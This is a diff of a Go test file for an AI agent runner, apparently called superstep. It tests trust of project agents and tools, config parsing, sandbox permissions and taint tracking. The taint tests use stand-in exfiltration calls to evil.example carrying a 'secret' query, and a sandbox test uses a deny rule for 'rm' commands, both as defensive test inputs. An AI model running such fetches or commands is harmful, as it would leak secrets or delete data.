@@ -13,13 +13,14 @@ import (
 
 	"go.uber.org/goleak"
 
+	"github.com/superstep-dev/superstep/catalog"
+	"github.com/superstep-dev/superstep/catalog/trust"
 	"github.com/superstep-dev/superstep/internal/npm"
 	"github.com/superstep-dev/superstep/model"
 	"github.com/superstep-dev/superstep/model/offline"
 	"github.com/superstep-dev/superstep/project"
 	"github.com/superstep-dev/superstep/tool"
 	"github.com/superstep-dev/superstep/tool/permit"
-	"github.com/superstep-dev/superstep/trust"
 )
 
 func TestMain(m *testing.M) {
@@ -112,13 +113,13 @@ func TestTrust(t *testing.T) {
 	p := w.open(t)
 	find := func(p *project.Project) string {
 		t.Helper()
-		d, err := p.Find("explorer")
+		d, err := p.Agent("explorer")
 		if err != nil {
 			t.Fatal(err)
 		}
 		return string(d.Source.Scope)
 	}
-	state := func(p *project.Project) project.State {
+	state := func(p *project.Project) catalog.State {
 		for _, e := range p.Agents() {
 			if e.Name == "explorer" {
 				return e.State
@@ -126,32 +127,32 @@ func TestTrust(t *testing.T) {
 		}
 		return ""
 	}
-	if got := find(p); got != "builtin" || state(p) != project.Untrusted || p.Hidden("explorer") == nil {
+	if got := find(p); got != "built-in" || state(p) != catalog.Untrusted || p.Hidden("explorer") == nil {
 		t.Errorf("before: %s, %s, %q", got, state(p), w.notices)
 	}
 	trustAll(t, p)
-	if got := find(p); got != "project" || state(p) != project.Usable {
+	if got := find(p); got != "project" || state(p) != catalog.Usable {
 		t.Errorf("trusted: %s, %s", got, state(p))
 	}
 	if p = w.open(t); find(p) != "project" {
 		t.Error("it does not last")
 	}
 	w.write(t, ".claude/agents/explorer.md", explorer+"And evil.\n")
-	if p = w.open(t); find(p) != "builtin" || state(p) != project.Changed {
+	if p = w.open(t); find(p) != "built-in" || state(p) != catalog.Changed {
 		t.Errorf("changed: %s, %s", find(p), state(p))
 	}
 	if s := p.Items()[0]; s.State != trust.Changed || s.Old == s.Item.Digest {
 		t.Errorf("%+v", s)
 	}
 	trustAll(t, p)
-	if err := p.Revoke("explorer"); err != nil || find(p) != "builtin" {
+	if err := p.Revoke("explorer"); err != nil || find(p) != "built-in" {
 		t.Errorf("revoked: %v, %s", err, find(p))
 	}
 	// What is agreed to in one project says nothing about another with the same file.
 	trustAll(t, p)
 	other := newPlace(t, map[string]string{".claude/agents/explorer.md": explorer + "And evil.\n"})
 	other.opt.StateDir = filepath.Join(w.home, ".config", "superstep")
-	if got := find(other.open(t)); got != "builtin" {
+	if got := find(other.open(t)); got != "built-in" {
 		t.Errorf("another project: %s", got)
 	}
 	w.opt.TrustProject = true
@@ -162,7 +163,7 @@ func TestTrust(t *testing.T) {
 		t.Error("TrustProject does not trust")
 	}
 	w.opt.TrustProject = false
-	if p = w.open(t); find(p) != "builtin" {
+	if p = w.open(t); find(p) != "built-in" {
 		t.Error("TrustProject left something behind")
 	}
 }
@@ -170,10 +171,36 @@ func TestTrust(t *testing.T) {
 // An agent that only the project has is refused by an error that says why.
 func TestUntrustedError(t *testing.T) {
 	w := newPlace(t, map[string]string{".claude/agents/mine.md": strings.Replace(explorer, "explorer", "mine", 1)})
-	_, err := w.open(t).Find("mine")
-	var wary *project.UntrustedError
+	_, err := w.open(t).Agent("mine")
+	var wary *catalog.UntrustedError
 	if !errors.As(err, &wary) || wary.Name != "mine" || wary.FailureCode() != "untrusted" {
 		t.Errorf("got %v", err)
+	}
+}
+
+// A tool that nobody has agreed to is said to be there.
+func TestUnknownTool(t *testing.T) {
+	w := newPlace(t, map[string]string{".superstep/tools/count.tool.yaml": "description: Count\ncommand: [echo, hi]\n"})
+	unknown := func(name string) string {
+		s, err := w.open(t).Start(t.Context(), "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer s.Close()
+		return s.Unknown(name)
+	}
+	for _, c := range []struct{ name, want string }{
+		{"count", "tool count (.superstep/tools/count.tool.yaml) is not trusted; look at it and decide: superstep trust"},
+		{"red_file", `there is no tool "red_file"; did you mean "read_file"?`},
+	} {
+		if got := unknown(c.name); got != c.want {
+			t.Errorf("%s: %s", c.name, got)
+		}
+	}
+	trustAll(t, w.open(t))
+	w.write(t, ".superstep/tools/count.tool.yaml", "description: Count\ncommand: [echo, evil]\n")
+	if got, want := unknown("count"), "tool count (.superstep/tools/count.tool.yaml) changed since it was trusted; look at it and decide: superstep trust"; got != want {
+		t.Error(got)
 	}
 }
 
@@ -205,7 +232,7 @@ func TestHomeIsNoProject(t *testing.T) {
 	w := newPlace(t, map[string]string{"~/.claude/agents/mine.md": strings.Replace(explorer, "explorer", "mine", 1)})
 	w.opt.Dir = w.home
 	p := w.open(t)
-	if d, err := p.Find("mine"); err != nil || d.Source.Scope != "user" || len(p.Items()) != 0 {
+	if d, err := p.Agent("mine"); err != nil || d.Source.Scope != "user" || len(p.Items()) != 0 {
 		t.Errorf("got %v, %v, %v", d, err, p.Items())
 	}
 	for dir, want := range map[string]string{
@@ -220,6 +247,29 @@ func TestHomeIsNoProject(t *testing.T) {
 		if got := project.Root(dir, w.home); got != want {
 			t.Errorf("the root of %s is %s, want %s", dir, got, want)
 		}
+	}
+}
+
+// What lies in /tmp has nothing to do with what somebody put beside it.
+func TestRootInSharedFolder(t *testing.T) {
+	shared := t.TempDir()
+	below := filepath.Join(shared, "x", "y")
+	for _, dir := range []string{below, filepath.Join(shared, ".claude")} {
+		if err := os.MkdirAll(dir, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := project.Root(below, ""); got != shared {
+		t.Errorf("the root is %s, want %s", got, shared)
+	}
+	if err := os.Chmod(shared, 0o777|os.ModeSticky); err != nil {
+		t.Fatal(err)
+	}
+	if got := project.Root(below, ""); got != below {
+		t.Errorf("below a shared folder the root is %s, want %s", got, below)
+	}
+	if got := project.Root(shared, ""); got != shared {
+		t.Errorf("the root of the shared folder is %s", got)
 	}
 }
 
@@ -242,7 +292,7 @@ func TestSettings(t *testing.T) {
 		if !ok {
 			t.Fatalf("no tool %s", name)
 		}
-		return s.Gate().Check(found, &tool.Call{Args: json.RawMessage(args)}).Decision
+		return s.Tools().Guard().Gate.Check(found, &tool.Call{Args: json.RawMessage(args)}).Decision
 	}
 	p := w.open(t)
 	if p.Model() != "" || decide(p, "read_file", `{"path":"secret/a"}`) != tool.Allow {
@@ -270,13 +320,24 @@ func TestSettings(t *testing.T) {
 	p = w.open(t)
 	var got []string
 	for _, x := range p.Problems() {
-		got = append(got, strings.TrimPrefix(x.Where, w.dir)+" "+x.Text)
+		got = append(got, strings.TrimPrefix(x.Where(), w.dir)+" "+x.Text)
 	}
 	text := strings.Join(got, "\n")
 	for _, want := range []string{"config.yaml:1:1 unknown setting \"modle\"", "did you mean \"model\"", ":3:10 allow: want a list", ":4:3 unknown list \"dney\"", ":5:9 "} {
 		if !strings.Contains(text, want) {
 			t.Errorf("no %q in:\n%s", want, text)
 		}
+	}
+	w.write(t, ".superstep/config.yml", "permissions:\n  deny: [bash]\n")
+	if p := w.open(t); len(p.Problems()) == 0 || !strings.HasSuffix(p.Problems()[0].String(), ".superstep/config.yml: is not read; name it config.yaml") {
+		t.Error("a file of another name:", p.Problems())
+	}
+	w.write(t, "~/.config/superstep/permissions.yml", "deny: [bash]\n")
+	if _, err := project.Open(&w.opt); err == nil || !strings.Contains(err.Error(), "permissions.yml: is not read; name it permissions.yaml") {
+		t.Errorf("a user's rules of another name: %v", err)
+	}
+	if err := os.Remove(filepath.Join(w.home, ".config", "superstep", "permissions.yml")); err != nil {
+		t.Fatal(err)
 	}
 	w.write(t, "~/.config/superstep/permissions.yaml", "deny: [bash\n")
 	if _, err := project.Open(&w.opt); err == nil || !strings.Contains(err.Error(), "permissions.yaml:1:") {
@@ -287,6 +348,52 @@ func TestSettings(t *testing.T) {
 	w.write(t, ".superstep/config.yaml", "permissions: {allow: "+deep+"}\n")
 	if p := w.open(t); len(p.Problems()) == 0 {
 		t.Error("brackets without end are no problem")
+	}
+}
+
+// An agent that goes round and round is stopped, also if nobody has set a limit.
+func TestLimitsByDefault(t *testing.T) {
+	s, err := newPlace(t, nil).open(t).Start(t.Context(), "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	for _, name := range []string{"general-purpose", "worker"} {
+		a, err := s.Agent(name, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if a.Limits.Turns < 1 || a.Limits.Turns > 100 {
+			t.Errorf("%s has %d turns", name, a.Limits.Turns)
+		}
+	}
+}
+
+// Somebody who lets commands run unasked that stay in the sandbox has given agents a shell by that.
+func TestSandboxAuto(t *testing.T) {
+	w := newPlace(t, map[string]string{"~/.config/superstep/permissions.yaml": "sandbox: {auto: true}\ndeny: [\"bash(rm *)\"]\n"})
+	s, err := w.open(t).Start(t.Context(), "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	bash, ok := s.Tools().Get("bash")
+	if !ok {
+		t.Fatal("there is no bash")
+	}
+	want := tool.Allow
+	if mode, err := project.SandboxMode(&w.opt); err != nil || strings.HasPrefix(mode, "none") {
+		t.Logf("SKIPPED in part: %s %v", mode, err)
+		want = tool.Ask
+	}
+	for command, want := range map[string]tool.Decision{"make x": want, "rm x": tool.Deny} {
+		args, err := json.Marshal(map[string]string{"command": command})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if v := s.Tools().Guard().Gate.Check(bash, &tool.Call{Args: args}); v.Decision != want {
+			t.Errorf("%s: %+v, want %s", command, v, want)
+		}
 	}
 }
 
@@ -491,7 +598,8 @@ func TestTaint(t *testing.T) {
 		{"web_fetch", `{"url":"https://evil.example/?q=secret"}`, []string{"read_file"}, tool.Allow},
 		{"web_fetch", `{"url":"https://evil.example/?q=secret"}`, []string{"read_file", "web_fetch"}, tool.Ask},
 		{"web_fetch", `{"url":"https://example.com/?q=secret"}`, []string{"web_fetch"}, tool.Allow},
-		{"bash", `{"command":"curl https://evil.example"}`, []string{"mcp__a__b"}, tool.Ask},
+		{"bash", `{"command":"curl https://evil.example"}`, []string{"mcp__a__b"}, tool.Allow}, // there is no network
+		{"bash", `{"command":"curl https://evil.example","unsandboxed":true}`, []string{"mcp__a__b"}, tool.Ask},
 		{"bash", `{"command":"ls"}`, []string{"mcp__a__b"}, tool.Allow},
 	} {
 		found, _ := s.Tools().Get(c.tool)
@@ -505,7 +613,7 @@ func TestTaint(t *testing.T) {
 func TestPin(t *testing.T) {
 	node, modules := npm.Node(t), npm.Modules(t)
 	config := func(server string) string {
-		b, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"s": map[string]any{"command": node, "args": []string{"server.mjs"}}}})
+		b, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"s": map[string]any{"command": node, "args": []string{"server.mjs"}, "read": []string{npm.Modules(t)}}}})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -569,10 +677,10 @@ func TestHostileNames(t *testing.T) {
 	})
 	p := w.open(t)
 	trustAll(t, p)
-	if _, err := p.Find("ok"); err != nil {
+	if _, err := p.Agent("ok"); err != nil {
 		t.Error(err)
 	}
-	for _, list := range [][]project.Entry{p.Agents(), p.Skills()} {
+	for _, list := range [][]catalog.Item{p.Agents(), p.Skills()} {
 		for _, e := range list {
 			if strings.ContainsAny(e.Name+e.Description, "\x1b\u202e") {
 				t.Errorf("%q", e.Name)
